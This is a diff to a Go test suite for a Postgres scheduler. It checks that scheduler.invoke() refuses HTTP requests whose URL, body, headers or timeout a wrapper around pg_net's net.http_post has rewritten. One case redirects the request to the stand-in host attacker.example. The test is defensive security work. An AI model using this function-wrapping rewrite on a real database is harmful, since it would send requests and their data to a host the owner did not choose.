@@ -235,26 +235,66 @@ func TestInvokeResistsQueueTriggers(t *testing.T) {
 		}
 	})
 
+	// Whatever makes the queued row differ from what invoke() asked for. net.http_post is wrapped, by its
+	// owner, in a function that calls it with one argument changed, so that the row is still queued by
+	// pg_net's own code: the real extension's where pg_net is installed in this database (a pg_extension
+	// row, realExtension), the stand-in's otherwise. This used to replace net.http_post with a copy of the
+	// stand-in's body, which is not pg_net's function, and so it skipped where pg_net is real.
 	t.Run("rewritten request", func(t *testing.T) {
 		if realExtension(t, conn, "pg_net") {
-			t.Skip("replaces the stand-in's net.http_post")
+			t.Log("net.http_post is pg_net's own")
 		}
-		// A net.http_post that queues something else than it was asked to (as a trigger-free rewrite would).
-		if _, err := admin.Exec(ctx, `create or replace function net.http_post(url text, body jsonb default '{}', params jsonb default '{}',
-			headers jsonb default '{}', timeout_milliseconds integer default 5000) returns bigint language sql as $f$
-			insert into net.http_request_queue (method, url, headers, body, timeout_milliseconds)
-			values ('POST', 'http://attacker.example/', headers, convert_to(body::text, 'UTF8'), timeout_milliseconds) returning id $f$`); err != nil {
-			t.Fatal(err)
-		}
-		queuedBefore := count(t, conn, `select count(*) from net.http_request_queue`)
-		_, err := conn.Exec(ctx, `select scheduler.invoke()`)
-		if err == nil || !strings.Contains(err.Error(), "is not the request it queued") {
-			t.Fatalf("scheduler.invoke() with a rewritten request: %v, want a refusal", err)
-		}
-		if n := count(t, conn, `select count(*) from net.http_request_queue`); n != queuedBefore {
-			t.Errorf("the rewritten request stayed queued")
+		for _, c := range []struct{ name, url, body, headers, timeout string }{
+			{"unchanged", "url", "body", "headers", "timeout_milliseconds"},
+			{"url", "'http://attacker.example/scheduler'", "body", "headers", "timeout_milliseconds"},
+			{"body", "url", `body || '{"scenarios": ["inactivity"]}'`, "headers", "timeout_milliseconds"},
+			{"headers", "url", "body", `headers || '{"X-Forwarded-For": "203.0.113.9"}'`, "timeout_milliseconds"},
+			{"timeout", "url", "body", "headers", "1000"},
+		} {
+			t.Run(c.name, func(t *testing.T) {
+				wrapHTTPPost(t, admin, c.url, c.body, c.headers, c.timeout)
+				queuedBefore := count(t, conn, `select count(*) from net.http_request_queue`)
+				_, err := conn.Exec(ctx, `select scheduler.invoke()`)
+				if c.name == "unchanged" {
+					if err != nil {
+						t.Fatalf("scheduler.invoke() through a wrapper that changes nothing: %v", err)
+					}
+					return
+				}
+				if err == nil || sqlState(err) != "55000" || !strings.Contains(err.Error(), "is not the request it queued") {
+					t.Fatalf("scheduler.invoke() with a rewritten %s: %v, want SQLSTATE 55000, a refusal", c.name, err)
+				}
+				if n := count(t, conn, `select count(*) from net.http_request_queue`); n != queuedBefore {
+					t.Errorf("the rewritten request stayed queued")
+				}
+			})
 		}
 	})
+}
+
+// wrapHTTPPost renames net.http_post(text, jsonb, jsonb, jsonb, integer) and puts in its place a function
+// with the same signature that calls it with the given SQL expressions for url, body, headers and
+// timeout_milliseconds (each may name the wrapper's own arguments). The original is back when the test ends.
+func wrapHTTPPost(t *testing.T, admin *pgx.Conn, url, body, headers, timeout string) {
+	t.Helper()
+	ctx := context.Background()
+	const sig = `(text, jsonb, jsonb, jsonb, integer)`
+	if _, err := admin.Exec(ctx, `alter function net.http_post`+sig+` rename to http_post_unwrapped`); err != nil {
+		t.Fatalf("net.http_post%s: %v", sig, err)
+	}
+	t.Cleanup(func() {
+		_, err := admin.Exec(context.Background(), `drop function net.http_post`+sig+`;
+			alter function net.http_post_unwrapped`+sig+` rename to http_post`)
+		if err != nil {
+			t.Errorf("restoring net.http_post: %v", err)
+		}
+	})
+	_, err := admin.Exec(ctx, fmt.Sprintf(`create function net.http_post(url text, body jsonb default '{}', params jsonb default '{}',
+		headers jsonb default '{"Content-Type": "application/json"}', timeout_milliseconds integer default 5000)
+		returns bigint language sql as $f$ select net.http_post_unwrapped(%s, %s, params, %s, %s) $f$`, url, body, headers, timeout))
+	if err != nil {
+		t.Fatal(err)
+	}
 }
 
 // Finding 5: the SECURITY DEFINER functions check their inputs as the HTTP contract does, for the function
